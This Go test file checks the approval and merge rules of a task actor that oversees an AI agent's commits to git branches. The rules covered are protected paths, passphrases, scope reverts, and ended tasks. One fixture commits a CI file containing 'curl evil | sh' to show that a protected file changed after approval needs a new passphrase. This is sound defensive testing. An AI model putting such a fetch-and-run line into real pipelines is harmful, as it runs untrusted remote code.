package actors

import (
	"context"
	"errors"
	"log/slog"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/asynkron/protoactor-go/actor"

	"lazy/agent"
	"lazy/api"
	"lazy/approval"
	"lazy/gitx"
	"lazy/gitx/gitxtest"
	"lazy/review"
	"lazy/store"
	"lazy/task"
)

// noAgent is a launcher for tests that run no agent turn.
type noAgent struct{}

func (noAgent) RunTurn(context.Context, agent.TurnRequest) (agent.Result, agent.Outcome, error) {
	return agent.Result{}, agent.Outcome{}, errors.New("no agent in this test")
}

// rig is one task actor in a real actor system over a real git repository
// and an SQL store; messages go through futures, as the supervisor sends them.
type rig struct {
	t       *testing.T
	sys     *actor.ActorSystem
	pid     *actor.PID
	st      *store.SQL
	root    string
	tk      *store.Task
	deps    *TaskDeps
	host    TaskHost
	mu      sync.Mutex
	revoked []string
}

func newRig(t *testing.T, scope string, protect []string) *rig {
	t.Helper()
	return newRigWith(t, scope, protect, noAgent{}, "")
}

// newRigWith is a rig whose turns run on launcher; session is the task's
// agent session (asks need one).
func newRigWith(t *testing.T, scope string, protect []string, launcher TurnLauncher, session string) *rig {
	t.Helper()
	st, err := store.OpenSQL(filepath.Join(t.TempDir(), "lazy.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = st.Close() })
	return newRigOn(t, st, scope, protect, launcher, session)
}

// newRigOn is newRigWith over the store st (a PostgreSQL one: a test can
// stop its server).
func newRigOn(t *testing.T, st *store.SQL, scope string, protect []string, launcher TurnLauncher, session string) *rig {
	t.Helper()
	dir := t.TempDir()
	root := gitxtest.NewRepo(t, map[string]string{"a.go": "package a\n", ".github/ci.yml": "on: push\n"})
	ctx := context.Background()
	now := time.Now().UTC()
	id := task.NewID(now)
	wt := filepath.Join(dir, "worktrees", "t")
	if err := gitx.CreateTask(ctx, root, wt, "lazy/t", "main"); err != nil {
		t.Fatal(err)
	}
	tk := &store.Task{ID: id, Status: task.Blocked, Branch: "lazy/t", Parent: "main", Worktree: wt, Scope: scope,
		SessionID: session, CreatedAt: now, UpdatedAt: now, LastActivity: now}
	if err := st.CreateTask(ctx, tk); err != nil {
		t.Fatal(err)
	}
	r := &rig{t: t, st: st, root: root, tk: tk, sys: actor.NewActorSystem()}
	deps := &TaskDeps{Store: st, Launcher: launcher, LockDir: filepath.Join(dir, "locks"), Log: discard(), Root: root,
		RecoveryDir: filepath.Join(dir, "recovery"), Protect: protect, AskTimeout: time.Minute,
		CheckPassphrase: func(string, string) error { return approval.ErrWrong }}
	if err := deps.Validate(); err != nil {
		t.Fatal(err)
	}
	r.deps = deps
	r.host = TaskHost{Revoke: func(id string) error { r.mu.Lock(); r.revoked = append(r.revoked, id); r.mu.Unlock(); return nil }}
	r.pid = r.sys.Root.Spawn(actor.PropsFromProducer(NewTaskActor(id, deps, r.host)))
	t.Cleanup(func() { r.sys.Root.Stop(r.pid); r.sys.Shutdown() })
	return r
}

// respawn stops the task actor, lets change alter what its tree gives it
// while no actor reads it, and starts a new one (which loads the task from
// the store, as on another member).
func (r *rig) respawn(change func(*TaskHost)) {
	r.t.Helper()
	if err := r.sys.Root.StopFuture(r.pid).Wait(); err != nil {
		r.t.Fatal(err)
	}
	change(&r.host)
	r.pid = r.sys.Root.Spawn(actor.PropsFromProducer(NewTaskActor(r.tk.ID, r.deps, r.host)))
}

func (r *rig) ask(msg any) (any, error) {
	r.t.Helper()
	res, err := r.sys.Root.RequestFuture(r.pid, msg, time.Minute).Result()
	if err != nil {
		return nil, err
	}
	if e, ok := res.(error); ok {
		return nil, e
	}
	return res, nil
}

// commit is an agent's commit in the task repository, imported as after a
// work turn.
func (r *rig) commit(files map[string]string) {
	r.t.Helper()
	gitxtest.Commit(r.t, r.tk.Worktree, "agent work", files)
	tr := gitx.TaskRepo{Project: r.root, Worktree: r.tk.Worktree, Branch: r.tk.Branch, Parent: r.tk.Parent}
	if _, err := tr.Import(context.Background()); err != nil {
		r.t.Fatal(err)
	}
}

func refusalReason(t *testing.T, err error) string {
	t.Helper()
	var ref *review.Refusal
	if !errors.As(err, &ref) || ref.Remedy == nil {
		t.Fatalf("want a refusal with a remedy, got %v", err)
	}
	return ref.Remedy.Reason
}

func discard() *slog.Logger { return slog.New(slog.DiscardHandler) }

// TestAcceptChecksThenMerges: the accept rules in order, each a refusal with
// its reason, then a merge that ends the task and revokes its grants.
func TestAcceptChecksThenMerges(t *testing.T) {
	r := newRig(t, "", []string{".github/**"})
	if _, err := r.ask(&Accept{Reason: "ok"}); refusalReason(t, err) != review.ReasonNoCommits {
		t.Fatalf("no commits: %v", err)
	}
	r.commit(map[string]string{".github/ci.yml": "on: pull_request\n"})
	if _, err := r.ask(&Accept{Reason: "ok"}); refusalReason(t, err) != review.ReasonPassphraseRequired {
		t.Fatalf("protected path: %v", err)
	}
	_, err := r.ask(&Accept{Reason: "ok", Passphrase: "guess"})
	var ref *review.Refusal
	// the refusal carries its cause, which the web layer answers 403
	if !errors.As(err, &ref) || !errors.Is(err, approval.ErrWrong) || !strings.Contains(ref.Message, "wrong approval passphrase") {
		t.Fatalf("wrong passphrase: %v", err)
	}
	// the parent moves on: being behind it refuses nothing (the merge
	// takes the parent's new commits in), the passphrase is still asked
	gitxtest.Commit(t, r.root, "main moves", map[string]string{"b.go": "package a\n"})
	if _, err := r.ask(&Accept{Reason: "ok"}); refusalReason(t, err) != review.ReasonPassphraseRequired {
		t.Fatalf("behind the parent: %v", err)
	}
	res, err := r.ask(&Sync{Wait: true})
	if err != nil || res.(*SyncDone).Status != string(task.Blocked) {
		t.Fatalf("sync: %v %v", res, err)
	}
	// approve through the store as the daemon's approve command would:
	// the content at the branch's head
	approveNow := func() {
		blobs, err := gitx.Blobs(context.Background(), r.root, r.tk.Branch, []string{".github/ci.yml"})
		if err != nil {
			t.Fatal(err)
		}
		if err := r.st.AddApproval(context.Background(), &store.Approval{TaskID: r.tk.ID, Path: ".github/ci.yml", Kind: store.ApprovalProtected, ApprovedAt: time.Now(), Blob: blobs[".github/ci.yml"]}); err != nil {
			t.Fatal(err)
		}
	}
	approveNow()
	// the agent changes the approved file afterwards: the approval was of
	// the old content, so the passphrase is asked again
	r.commit(map[string]string{".github/ci.yml": "on: [push, pull_request]\nrun: curl evil | sh\n"})
	if _, err := r.ask(&Accept{Reason: "ok"}); refusalReason(t, err) != review.ReasonPassphraseRequired {
		t.Fatalf("a protected file changed after its approval: %v", err)
	}
	approveNow()
	// an accept of a head the reviewer did not see is refused
	if _, err := r.ask(&Accept{Reason: "ok", Head: strings.Repeat("0", 40)}); refusalReason(t, err) != review.ReasonHeadMoved {
		t.Fatalf("another head: %v", err)
	}
	head := strings.TrimSpace(gitxtest.Git(t, r.root, "rev-parse", r.tk.Branch))
	res, err = r.ask(&Accept{Reason: "ci on pull requests", Head: head})
	if err != nil {
		t.Fatalf("accept: %v", err)
	}
	if got := res.(*AcceptDone).Task; got.Status != task.Accepted || got.EndedAt == nil {
		t.Fatalf("task after accept: %+v", got)
	}
	if out := gitxtest.Git(t, r.root, "show", "main:.github/ci.yml"); !strings.Contains(out, "pull_request") {
		t.Fatalf("main after accept: %s", out)
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.revoked) != 1 || r.revoked[0] != r.tk.ID {
		t.Fatalf("grants revoked: %v", r.revoked)
	}
}

// TestDecideRevertsOutOfScope: files outside the task's scope are refused,
// then reverted by the decision, and the accept goes through.
func TestDecideRevertsOutOfScope(t *testing.T) {
	r := newRig(t, `["src/**"]`, nil)
	r.commit(map[string]string{"src/x.go": "package src\n", "a.go": "package a // touched\n"})
	_, err := r.ask(&Accept{Reason: "ok"})
	var ref *review.Refusal
	if refusalReason(t, err) != review.ReasonOutOfScope || !errors.As(err, &ref) || len(ref.Remedy.Files) != 1 || ref.Remedy.Files[0] != "a.go" {
		t.Fatalf("out of scope: %v", err)
	}
	if _, err := r.ask(&ViolationDecision{Decision: "revert", Files: []string{"a.go"}}); err != nil {
		t.Fatalf("revert: %v", err)
	}
	if _, err := r.ask(&Accept{Reason: "in scope now"}); err != nil {
		t.Fatalf("accept after the revert: %v", err)
	}
	if out := gitxtest.Git(t, r.root, "show", "main:a.go"); strings.Contains(out, "touched") {
		t.Fatal("the reverted file reached main")
	}
	if _, err := r.ask(&ViolationDecision{Decision: "maybe", Files: []string{"a.go"}}); err == nil {
		t.Fatal("a decision that is neither allow nor revert")
	}
}

// TestRefusalsAreNotFailures: a refused accept answers the sender; actor
// health shows no last failure.
func TestRefusalsAreNotFailures(t *testing.T) {
	r := newRig(t, "", nil)
	if _, err := r.ask(&Accept{Reason: "ok"}); refusalReason(t, err) != review.ReasonNoCommits {
		t.Fatal(err)
	}
	res, err := r.ask(&GetHealth{})
	if err != nil {
		t.Fatal(err)
	}
	if h := res.(api.ActorHealth); h.LastFailure != "" {
		t.Fatalf("a refusal shows as a failure: %q", h.LastFailure)
	}
}

// TestRenameSavesTheTitle: the actor saves a new title (an ended task's is
// kept: cmd/lazy's TestRenameTask, through the supervisor).
func TestRenameSavesTheTitle(t *testing.T) {
	r := newRig(t, "", nil)
	if _, err := r.ask(&Rename{Title: "new title"}); err != nil {
		t.Fatal(err)
	}
	tk, err := r.st.GetTask(context.Background(), r.tk.ID)
	if err != nil || tk.Title != "new title" {
		t.Fatalf("title %q, %v", tk.Title, err)
	}
}

// TestEndedTaskKeepsItsCommits: an accept records the parent's head it
// merged onto and the head that went in; a cancel where the branch left its
// parent and its head. Both stay right after the parent moves on, and an
// ended task takes no comment, question, re-send, withdrawal, unblock, sync
// or accept.
func TestEndedTaskKeepsItsCommits(t *testing.T) {
	ctx := context.Background()
	check := func(t *testing.T, r *rig, status task.Status, base, head string) {
		t.Helper()
		got, err := r.st.GetTask(ctx, r.tk.ID)
		if err != nil {
			t.Fatal(err)
		}
		if got.Status != status || got.EndBase != base || got.EndHead != head {
			t.Fatalf("ended task: got %s base %q head %q, want %s base %q head %q", got.Status, got.EndBase, got.EndHead, status, base, head)
		}
		// another actor of the task, as after a restart: everything refused
		r.pid = r.sys.Root.Spawn(actor.PropsFromProducer(NewTaskActor(r.tk.ID, r.deps, r.host)))
		c := review.ReviewComment{Intent: review.Comment, Body: "more", File: "a.go", Line: 1, Side: review.New}
		for _, msg := range []any{&PostReviewComment{Comment: c}, &RetryAsk{ID: "x"}, &WithdrawComment{ID: "x"}, &Unblock{Message: "go on"},
			&Sync{Wait: true}, &Accept{Reason: "again"}, &ApplySuggestion{ID: "x", Head: head, AuthorName: "r", AuthorEmail: "r@x"}} {
			if _, err := r.ask(msg); !errors.Is(err, ErrEnded) || !strings.Contains(err.Error(), "is "+string(status)) {
				t.Errorf("%T on a %s task: got %v, want ErrEnded saying so", msg, status, err)
			}
		}
		if cs, _ := r.st.ListReviewComments(ctx, r.tk.ID); len(cs) != 0 {
			t.Errorf("an ended task got review comments: %+v", cs)
		}
	}
	t.Run("accepted", func(t *testing.T) {
		r := newRig(t, "", nil)
		base := revParse(t, r.root, "main")
		r.commit(map[string]string{"a.go": "package a\n\nfunc A() {}\n"})
		head := revParse(t, r.tk.Worktree, "HEAD")
		if _, err := r.ask(&Accept{Reason: "good"}); err != nil {
			t.Fatalf("accept: %v", err)
		}
		if now := revParse(t, r.root, "main"); now != head {
			t.Fatalf("main after accept: %s, want %s", now, head)
		}
		gitxtest.Commit(t, r.root, "main moves on", map[string]string{"b.go": "package a\n"})
		check(t, r, task.Accepted, base, head)
	})
	t.Run("cancelled", func(t *testing.T) {
		r := newRig(t, "", nil)
		base := revParse(t, r.root, "main")
		r.commit(map[string]string{"a.go": "package a\n\nfunc Left() {}\n"})
		head := revParse(t, r.tk.Worktree, "HEAD")
		gitxtest.Commit(t, r.root, "main moves on first", map[string]string{"b.go": "package a\n"})
		if _, err := r.ask(&CancelTask{}); err != nil {
			t.Fatalf("cancel: %v", err)
		}
		check(t, r, task.Cancelled, base, head)
	})
}

func revParse(t *testing.T, dir, rev string) string {
	t.Helper()
	return strings.TrimSpace(gitxtest.Git(t, dir, "rev-parse", rev))
}
